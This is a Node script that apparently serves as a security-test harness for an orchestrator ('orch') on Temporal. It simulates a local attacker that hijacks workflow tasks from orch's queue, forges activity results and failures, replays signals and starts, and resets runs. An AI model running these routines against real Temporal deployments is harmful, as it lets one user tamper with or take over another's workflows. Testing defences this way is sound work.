// What another user of the machine can do by gRPC. Run as that user: local-user.mjs ADDRESS DEED JSON. Prints JSON.
// It has no orch, no key and no file of the owner's; only a client and a worker of Temporal's.
import { Client, Connection } from '@temporalio/client';
import proto from '@temporalio/proto';

const { temporal } = proto;
const [address, deed, given = '{}'] = process.argv.slice(2);
const about = JSON.parse(given);
const connection = await Connection.connect({ address });
const client = new Client({ connection });
const { workflowService: service } = connection;
const namespace = 'default';

const payload = (value) => ({
  metadata: { encoding: Buffer.from('json/plain') },
  data: Buffer.from(JSON.stringify(value)),
});
const payloads = (...values) => ({ payloads: values.map(payload) });

/** Polls for the workflow task of a run, as the queue's worker does, and answers with commands of its own. */
async function hijack({ id, commands, queue = 'orch' }) {
  for (let tried = 0; tried < 40; tried += 1) {
    const task = await connection
      .withDeadline(Date.now() + 5000, () =>
        service.pollWorkflowTaskQueue({ namespace, taskQueue: { name: queue }, identity: 'attacker' }),
      )
      .catch(() => undefined);
    if (!task?.taskToken?.length) continue;
    if (task.workflowExecution?.workflowId !== id) {
      await service.respondWorkflowTaskFailed({ namespace, taskToken: task.taskToken, cause: 1 }).catch(() => {});
      continue;
    }
    await service.respondWorkflowTaskCompleted({ namespace, taskToken: task.taskToken, commands: commands(task) });
    return { hijacked: true };
  }
  return { hijacked: false };
}

const seconds = (n) => ({ seconds: n, nanos: 0 });

function scheduleActivity({ activityId, type = 'runStep', input, queue = 'orch' }) {
  return {
    commandType: temporal.api.enums.v1.CommandType.COMMAND_TYPE_SCHEDULE_ACTIVITY_TASK,
    scheduleActivityTaskCommandAttributes: {
      activityId,
      activityType: { name: type },
      taskQueue: { name: queue },
      input,
      scheduleToCloseTimeout: seconds(60),
      startToCloseTimeout: seconds(60),
      heartbeatTimeout: seconds(10),
      retryPolicy: { maximumAttempts: 1 },
    },
  };
}

function startTimer(timerId) {
  return {
    commandType: temporal.api.enums.v1.CommandType.COMMAND_TYPE_START_TIMER,
    startTimerCommandAttributes: { timerId, startToFireTimeout: seconds(1) },
  };
}

function completeRun(result) {
  return {
    commandType: temporal.api.enums.v1.CommandType.COMMAND_TYPE_COMPLETE_WORKFLOW_EXECUTION,
    completeWorkflowExecutionCommandAttributes: { result: payloads(result) },
  };
}

async function historyOf(id) {
  const { events } = await client.workflow.getHandle(id).fetchHistory();
  return events;
}

/** The payloads of a task that orch itself has handed out. */
async function taskOf(id, activityId) {
  for (const { activityTaskScheduledEventAttributes: task } of await historyOf(id)) {
    if (task?.activityId === activityId) return task.input;
  }
  throw new Error(`${id} has handed out no ${activityId}`);
}

const deeds = {
  /** A workflow on a queue of their own, which hands out an activity on orch's. */
  async schedule({ id, task, type, activityId = 's:a', copyOf }) {
    const queue = `attacker-${id}`;
    const input =
      copyOf === undefined ? payloads(...(Array.isArray(task) ? task : [task])) : await taskOf(copyOf, activityId);
    await client.workflow.start('anything', { workflowId: id, taskQueue: queue, args: [] });
    return hijack({ id, queue, commands: () => [scheduleActivity({ activityId, type, input })] });
  },
  /** A workflow of their own, which starts a plan as its child. */
  async child({ id, childId, input, copyOf, type = 'runPlan' }) {
    const queue = `attacker-${id}`;
    const args =
      copyOf === undefined
        ? payloads(input)
        : (await historyOf(copyOf))[0].workflowExecutionStartedEventAttributes.input;
    await client.workflow.start('anything', { workflowId: id, taskQueue: queue, args: [] });
    return hijack({
      id,
      queue,
      commands: () => [
        {
          commandType: temporal.api.enums.v1.CommandType.COMMAND_TYPE_START_CHILD_WORKFLOW_EXECUTION,
          startChildWorkflowExecutionCommandAttributes: {
            namespace,
            workflowId: childId,
            workflowType: { name: type },
            taskQueue: { name: 'orch' },
            input: args,
          },
        },
      ],
    });
  },
  /** Answers the workflow task of a genuine run. */
  async steal({ id, activityId, task, copyOf, result, timerId }) {
    if (timerId !== undefined) return hijack({ id, commands: () => [startTimer(timerId)] });
    if (result !== undefined) return hijack({ id, commands: () => [completeRun(result)] });
    const input = copyOf === undefined ? payloads(task) : await taskOf(copyOf, activityId);
    return hijack({ id, commands: () => [scheduleActivity({ activityId, input })] });
  },
  async complete({ id, activityId, result, copyOf }) {
    const forged = copyOf === undefined ? payloads(result) : await resultIn(copyOf);
    await service.respondActivityTaskCompletedById({ namespace, workflowId: id, activityId, result: forged });
    return {};
  },
  /** A failure whose details say that all went well. */
  async fail({ id, activityId, details }) {
    await service.respondActivityTaskFailedById({
      namespace,
      workflowId: id,
      activityId,
      failure: {
        message: 'forged',
        applicationFailureInfo: { type: 'StepFailed', nonRetryable: true, details: payloads(details) },
      },
    });
    return {};
  },
  async signal({ id, name, args = [] }) {
    await client.workflow.getHandle(id).signal(name, ...args);
    return {};
  },
  /** A signal of orch's own, sent again. */
  async repeatSignal({ id, name, to = id }) {
    const events = await historyOf(id);
    const sent = events.find((event) => event.workflowExecutionSignaledEventAttributes?.signalName === name);
    const update = events.find((event) => event.workflowExecutionUpdateAcceptedEventAttributes);
    const input =
      sent?.workflowExecutionSignaledEventAttributes.input ??
      update?.workflowExecutionUpdateAcceptedEventAttributes.acceptedRequest.input.args;
    await service.signalWorkflowExecution({
      namespace,
      workflowExecution: { workflowId: to },
      signalName: name,
      input,
      requestId: String(Math.random()),
    });
    return {};
  },
  async update({ id, name, args = [] }) {
    try {
      return { answer: await client.workflow.getHandle(id).executeUpdate(name, { args }) };
    } catch (error) {
      return { refused: error.cause?.message ?? error.message };
    }
  },
  /** The start of a run, sent again with all that it carried. */
  async restart({ id }) {
    const { workflowType, taskQueue, input, header } = (await historyOf(id))[0].workflowExecutionStartedEventAttributes;
    const { runId } = await service.startWorkflowExecution({
      namespace,
      workflowId: id,
      workflowType,
      taskQueue: { name: taskQueue.name },
      input,
      header,
      requestId: String(Math.random()),
      workflowIdReusePolicy: temporal.api.enums.v1.WorkflowIdReusePolicy.WORKFLOW_ID_REUSE_POLICY_ALLOW_DUPLICATE,
    });
    return { runId };
  },
  async reset({ id, event }) {
    const { runId } = await service.resetWorkflowExecution({
      namespace,
      workflowExecution: { workflowId: id },
      reason: 'attack',
      workflowTaskFinishEventId: event ?? (await afterFirstTask(id)),
      requestId: String(Math.random()),
    });
    return { runId };
  },
  /** Takes an activity's task before orch's worker does, and says that it succeeded. */
  async poll({ id, result }) {
    for (let tried = 0; tried < 40; tried += 1) {
      const task = await connection
        .withDeadline(Date.now() + 5000, () =>
          service.pollActivityTaskQueue({ namespace, taskQueue: { name: 'orch' }, identity: 'attacker' }),
        )
        .catch(() => undefined);
      if (!task?.taskToken?.length) continue;
      if (task.workflowExecution.workflowId !== id) continue;
      await service.respondActivityTaskCompleted({ namespace, taskToken: task.taskToken, result: payloads(result) });
      return { taken: task.activityId };
    }
    return {};
  },
};

async function resultIn(id) {
  const done = (await historyOf(id)).find((event) => event.activityTaskCompletedEventAttributes);
  return done.activityTaskCompletedEventAttributes.result;
}

async function afterFirstTask(id) {
  return (await historyOf(id)).find((event) => event.workflowTaskCompletedEventAttributes).eventId;
}

try {
  process.stdout.write(`${JSON.stringify(await deeds[deed](about))}\n`);
} finally {
  await connection.close();
}
